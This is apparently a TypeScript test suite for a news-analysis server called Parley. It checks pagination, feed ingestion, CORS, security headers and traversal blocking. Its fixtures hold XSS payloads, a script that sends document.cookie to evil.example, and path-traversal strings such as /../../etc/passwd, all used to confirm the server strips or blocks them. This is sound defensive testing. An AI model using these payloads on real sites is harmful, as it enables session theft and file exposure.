    for (const url of ['/api/articles?from=2025-02-30x', '/api/quotes?to=soon', '/api/claims?from=2025-13', '/feeds/claims.atom?type=HUG', '/feeds/search.atom?q=x&lang=de'])
      assertError(await get(url), 400, 'bad_request');
  });

  test('a cursor walks a list to its end without repeats (entities, quotes, events)', async () => {
    for (const base of ['/api/entities?', '/api/quotes?', '/api/events?']) {
      const all = json(await get(`${base}limit=200`)).items.map((x: Record<string, unknown>) => JSON.stringify(x));
      const walked: string[] = [];
      let url = `${base}limit=7`;
      for (let i = 0; i < 100; i++) {
        const p = json(await get(url));
        walked.push(...p.items.map((x: Record<string, unknown>) => JSON.stringify(x)));
        if (!p.next) break;
        url = `${base}limit=7&cursor=${p.next}`;
      }
      assert.deepEqual(walked, all, base);
    }
  });

  test('POST /api/articles: per-item results for JSON Lines, RSS, HTML and cp1251 text with hostile items; only the good ones stored', async () => {
    const before = json(await get('/api/stats')).articles;
    const post = (payload: string | Buffer, type: string, name: string) =>
      app.inject({ method: 'POST', url: `/api/articles?name=${name}`, headers: { ...auth, 'content-type': type }, payload });
    const lines = readFileSync(join(SAMPLES, 'diplomacy-2025.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
    // JSON Lines: two real articles under new ids (one titled with markup), a broken line, an item without text, an empty line
    const jl = [
      JSON.stringify({ ...lines[0], id: 'mixed-1' }),
      '{"id": "mixed-broken", "text": "Лавров',
      JSON.stringify({ id: 'mixed-notext', title: 'Без текста' }),
      '',
      JSON.stringify({ ...lines[1], id: 'mixed-2', title: `<img src=x onerror="alert(1)">${lines[1].title}` }),
    ].join('\n');
    const news: number[] = [];
    let b = json(await post(jl, 'application/x-ndjson', 'mixed.jsonl'));
    news.push(b.new);
    assert.equal(b.read, 2, JSON.stringify(b));
    assert.deepEqual(b.items.map((i: { id: string; status: string }) => [i.id, i.status]), [['mixed-1', 'new'], ['mixed-2', 'new']]);
    assert.deepEqual(b.rejected.map((r: { line: number }) => r.line), [2, 3], JSON.stringify(b.rejected));
    for (const r of b.rejected) assert.match(r.input, /mixed\.jsonl/);
    const t2 = json(await get('/api/articles/mixed-2')).title as string;
    assert.ok(!/onerror|<img/i.test(t2) || t2.startsWith('<img src=x onerror'), t2);

    // RSS: a real item, an item of nothing but script, an item with script and handlers around real text
    const rss = readFileSync(join(SAMPLES, 'uk-diplomacy.rss'), 'utf8');
    const item = /<item>[\s\S]*?<\/item>/.exec(rss)![0];
    const bodyOf = /<content:encoded><!\[CDATA\[([\s\S]*?)\]\]><\/content:encoded>/.exec(item)![1];
    const feed = `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>t</title>
      ${item.replace(/<guid[^>]*>[^<]*<\/guid>/, '<guid isPermaLink="false">rss-good</guid>').replace(/<link>[^<]*<\/link>/, '<link>https://samples.parley.invalid/uk/rss-good</link>')}
      <item><title>script only</title><guid isPermaLink="false">rss-script</guid><link>https://samples.parley.invalid/uk/rss-script</link><content:encoded><![CDATA[<script>alert(1)</script><style>p{}</style>]]></content:encoded></item>
      <item><title>Зустріч &lt;script&gt;</title><guid isPermaLink="false">rss-hostile</guid><link>https://samples.parley.invalid/uk/rss-hostile</link><pubDate>Sat, 01 Mar 2025 10:00:00 +0200</pubDate>
        <content:encoded><![CDATA[<script>document.location="https://evil.example/"+document.cookie</script><p onclick="alert(2)">${bodyOf.replace(/<[^>]+>/g, ' ').slice(0, 600)}</p><a href="javascript:alert(3)">далі</a><img src=x onerror=alert(4)>]]></content:encoded></item>
    </channel></rss>`;
    const rr = await post(feed, 'application/rss+xml', 'mixed.rss');
    assert.equal(rr.statusCode, 200, rr.body);
    b = json(rr);
    news.push(b.new);
    assert.equal(b.new, b.read, JSON.stringify(b));
    assert.equal(b.read + b.rejected.length, 3, JSON.stringify(b));
    assert.ok(b.read >= 2, JSON.stringify(b));
    assert.ok(b.rejected.every((r: { error: string }) => r.error.length > 5));
    for (const it of b.items as { id: string }[]) {
      const a = json(await get(`/api/articles/${encodeURIComponent(it.id)}`));
      assert.ok(!/<script|onerror|onclick|javascript:/i.test(a.text), `${it.id}: markup left in the text`);
      assert.ok(a.text.length > 100, `${it.id}: text kept`);
    }

    // HTML: a real page with scripts, handlers and a javascript: link around the text
    const page = readFileSync(join(SAMPLES, 'ru-2025-07-01-macron-putin-call.html'), 'utf8')
      .replace('<body>', '<body><script>fetch("/api/articles",{method:"POST"})</script><div onmouseover="alert(1)">')
      .replace('</body>', '<a href="javascript:alert(1)">x</a><iframe src="https://evil.example"></iframe></div></body>')
      .replace(/<link rel="canonical"[^>]*>/, '');
    b = json(await post(page, 'text/html', 'hostile-page.html'));
    news.push(b.new);
    assert.equal(b.read, 1, JSON.stringify(b));
    // the scripts, handlers, frame and link add no text: the page reads as the sample it was made from (same text, same id)
    assert.deepEqual(b.items.map((i: { status: string }) => i.status), ['duplicate'], JSON.stringify(b));
    const h = json(await get(`/api/articles/${encodeURIComponent(b.items[0].id)}`));
    assert.ok(!/<script|onmouseover|javascript:|<iframe/i.test(h.text), h.text.slice(0, 300));
    assert.match(h.text, /Макрон/);

    // plain text in cp1251 (a Windows editor's file): decoded, not mojibake
    const ru = readFileSync(join(SAMPLES, 'ru-2025-02-18-riyadh-talks.txt'), 'utf8').replace('Parley sample.', 'Parley sample (cp1251).');
    b = json(await post(iconv.encode(ru, 'win1251'), 'text/plain', 'riyadh-cp1251.txt'));
    news.push(b.new);
    assert.equal(b.read, 1, JSON.stringify(b));
    const c = json(await get(`/api/articles/${encodeURIComponent(b.items[0].id)}`));
    assert.match(c.text, /Министр иностранных дел России Сергей Лавров/);

    assert.equal(news.reduce((n, x) => n + x, 0), news.length ? json(await get('/api/stats')).articles - before : 0, 'exactly the new items were stored');
    const again = json(await post(feed, 'application/rss+xml', 'mixed.rss'));
    assert.deepEqual([again.new, again.duplicates], [0, news[1]], 'the same feed again: only duplicates');
  });

  test('/feeds/claims.atom?actor=…&status=…: only that actor\'s claims in that status, as valid Atom', async () => {
    const claims = json(await get('/api/claims?limit=200')).items as { id: string; actors: string[]; status: string }[];
    const pick = claims.find((c) => c.actors.length >= 1)!;
    const actor = pick.actors[0];
    const r = await get(`/feeds/claims.atom?actor=${encodeURIComponent(actor)}&status=${pick.status}`);
    assert.equal(r.statusCode, 200, r.body);
    assert.equal(XMLValidator.validate(r.body), true);
    const feed = new XMLParser().parse(r.body).feed;
    const ids = [feed.entry].flat().filter(Boolean).map((e: { id: string }) => decodeURIComponent(e.id.split('/claims/')[1]));
    const want = claims.filter((c) => c.actors.includes(actor) && c.status === pick.status).map((c) => c.id);
    assert.ok(ids.includes(pick.id));
    assert.deepEqual(new Set(ids), new Set(want.filter((id) => ids.includes(id))));
    for (const id of ids) assert.ok(want.includes(id), `${id} is not a ${pick.status} claim of ${actor}`);
    // the feed's own date is its newest entry's, not the time of the request
    assert.ok(String(feed.updated) <= new Date().toISOString() && String(feed.updated) >= '2020');
  });

  test('CORS: off by default; when origins are given only those are allowed', async () => {
    const cors = await buildServer({ store: await openTestStore('cors.db'), rateLimit: false, webDir: null, corsOrigins: ['https://newsroom.example'] });
    try {
      const ok = await cors.inject({ method: 'GET', url: '/api/health', headers: { origin: 'https://newsroom.example' } });
      assert.equal(ok.headers['access-control-allow-origin'], 'https://newsroom.example');
      const other = await cors.inject({ method: 'GET', url: '/api/health', headers: { origin: 'https://evil.example' } });
      assert.equal(other.headers['access-control-allow-origin'], undefined);
    } finally {
      await cors.close();
    }
    const r = await get('/api/articles?limit=1', { origin: 'https://newsroom.example' });
    assert.equal(r.headers['access-control-allow-origin'], undefined, 'the default server allows no origin');
  });

  test('`parley serve` binds 127.0.0.1 unless told otherwise', async () => {
    const db = join(tmp, 'bind.db');
    const child = spawn(process.execPath, ['--import', 'tsx', join(ROOT, 'src/cli/main.ts'), 'serve', '--db', db, '--port', '0', '--no-ui'], {
      cwd: ROOT,
      env: { ...process.env, PARLEY_TOKEN: TOKEN },
      stdio: ['ignore', 'ignore', 'pipe'],
    });
    try {
      let err = '';
      const port = await new Promise<number>((resolve, reject) => {
        const t = setTimeout(() => reject(new Error(`no address in 60 s: ${err}`)), 60_000);
        child.stderr!.on('data', (d) => {
          err += d;
          const m = /serving .* at http:\/\/localhost:(\d+)\//.exec(err);
          if (m) {
            clearTimeout(t);
            resolve(Number(m[1]));
          }
        });
        child.on('exit', (c) => reject(new Error(`serve exited ${c}: ${err}`)));
      });
      // the kernel's socket table: a listener on this port, on 127.0.0.1 only
      const hex = port.toString(16).toUpperCase().padStart(4, '0');
      const listening = [readFileSync('/proc/net/tcp', 'utf8'), readFileSync('/proc/net/tcp6', 'utf8')]
        .join('\n')
        .split('\n')
        .map((l) => l.trim().split(/\s+/))
        .filter((f) => f[1]?.endsWith(':' + hex) && f[3] === '0A')
        .map((f) => f[1].split(':')[0]);
      assert.deepEqual(listening, ['0100007F'], `listening on ${listening.join(', ')}`);
      assert.equal((await fetch(`http://127.0.0.1:${port}/api/health`)).status, 200);
    } finally {
      child.kill('SIGTERM');
    }
  });
});

describe('the server', () => {
  test('security headers: CSP without inline scripts, nosniff, no CORS by default', async () => {
    const r = await get('/api/health', { origin: 'https://evil.example' });
    const csp = String(r.headers['content-security-policy']);
    const script = /script-src ([^;]+)/.exec(csp)?.[1] ?? '';
    assert.equal(script.trim(), "'self'");
    assert.match(csp, /default-src 'self'/);
    assert.match(csp, /object-src 'none'/);
    assert.equal(r.headers['x-content-type-options'], 'nosniff');
    assert.equal(r.headers['access-control-allow-origin'], undefined);
    const pre = await app.inject({ method: 'OPTIONS', url: '/api/articles', headers: { origin: 'https://evil.example', 'access-control-request-method': 'POST' } });
    assert.equal(pre.headers['access-control-allow-origin'], undefined);
  });

  test('the rate limit answers 429 with the error shape', async () => {
    const limited = await buildServer({ store: await openTestStore('rl.db'), rateLimit: 3, webDir: null });
    try {
      for (let i = 0; i < 3; i++) assert.equal((await limited.inject({ method: 'GET', url: '/api/health' })).statusCode, 200);
      const r = await limited.inject({ method: 'GET', url: '/api/health' });
      assertError(r, 429, 'too_many_requests');
      assert.ok(r.headers['retry-after']);
    } finally {
      await limited.close();
    }
  });

  test('unknown routes and methods are JSON 404s', async () => {
    assertError(await get('/api/nothing'), 404, 'not_found');
    assertError(await app.inject({ method: 'DELETE', url: '/api/articles/x' }), 404);
    assertError(await get('/../../etc/passwd'), 404);
  });

  test('the web UI: files with caching headers, SPA fallback, no traversal', async () => {
    const web = join(tmp, 'web');
    mkdirSync(join(web, 'assets'), { recursive: true });
    writeFileSync(join(web, 'index.html'), '<!doctype html><title>Parley</title><div id="root"></div><script type="module" src="/assets/app-1a2b.js"></script>');
    writeFileSync(join(web, 'assets', 'app-1a2b.js'), 'console.log(1)');
    writeFileSync(join(tmp, 'secret.txt'), 'TOP-SECRET-CONTENT-42');
    const ui = await buildServer({ store: await openTestStore('ui.db'), rateLimit: false, webDir: web });
    try {
      const html = { accept: 'text/html,application/xhtml+xml' };
      const root = await ui.inject({ method: 'GET', url: '/', headers: html });
      assert.equal(root.statusCode, 200);
      assert.match(root.body, /<div id="root">/);
      assert.equal(root.headers['cache-control'], 'no-cache');
      const asset = await ui.inject({ method: 'GET', url: '/assets/app-1a2b.js' });
      assert.equal(asset.statusCode, 200);
      assert.match(String(asset.headers['cache-control']), /max-age=31536000, immutable/);
      for (const path of ['/stories/s-1', '/claims/c-9?x=1', '/search?q=%D0%9B%D0%B0%D0%B2%D1%80%D0%BE%D0%B2', '/network']) {
        const r = await ui.inject({ method: 'GET', url: path, headers: html });
        assert.equal(r.statusCode, 200, path);
        assert.match(r.body, /<div id="root">/, path);
      }
      // API paths and missing files are not the app
      assertError(await ui.inject({ method: 'GET', url: '/api/nothing', headers: html }), 404);
      assertError(await ui.inject({ method: 'GET', url: '/assets/missing.js' }), 404);
      for (const p of ['/../secret.txt', '/assets/..%2F..%2Fsecret.txt', '/%2e%2e/secret.txt', '/assets/%2e%2e/%2e%2e/secret.txt']) {
        const r = await ui.inject({ method: 'GET', url: p });
        assert.ok(!r.body.includes('TOP-SECRET-CONTENT-42'), p);
        assert.ok(r.statusCode === 404 || r.statusCode === 400 || (r.statusCode === 200 && /<div id="root">/.test(r.body)), `${p}: ${r.statusCode}`);
      }
    } finally {
      await ui.close();
    }
  });

  test('/docs works under the CSP: its scripts are files, no inline script', async () => {
    const r = await get('/docs/');
    const page = r.statusCode === 302 ? await get(String(r.headers.location)) : r;
    assert.equal(page.statusCode, 200);
    assert.match(page.body, /swagger-ui/);
    const scripts = [...page.body.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)];
    assert.ok(scripts.length >= 1);
    for (const [, attrs, body] of scripts) {
      assert.match(attrs, /src="/);
      assert.equal(body.trim(), '');
      const src = new URL(/src="([^"]+)"/.exec(attrs)![1], 'http://localhost/docs/').pathname;
      assert.equal((await get(src)).statusCode, 200, src);
    }
    assert.equal((await get('/docs/json')).statusCode, 200);
  });

  test('the OpenAPI document is valid and holds every route; every route was exercised', async () => {
    const r = await get('/openapi.json');
    assert.equal(r.statusCode, 200);
    const doc = json(r);
    const result = await validateOpenApi(structuredClone(doc));
    assert.ok(result.valid, result.valid ? '' : compileErrors(result));
    const routes = registeredRoutes(app).filter((x) => !x.hidden && x.method !== 'HEAD' && !x.url.startsWith('/docs'));
    assert.ok(routes.length >= 12);
    for (const x of routes) {
      const path = x.url.replace(/:(\w+)/g, '{$1}');
      assert.ok(doc.paths[path]?.[x.method.toLowerCase()], `${x.method} ${x.url} is in /openapi.json`);
    }
    const untested = routes.filter((x) => !hit.has(`${x.method} ${x.url}`)).map((x) => `${x.method} ${x.url}`);
    assert.deepEqual(untested, [], 'every documented route is exercised by a test');
  });
});
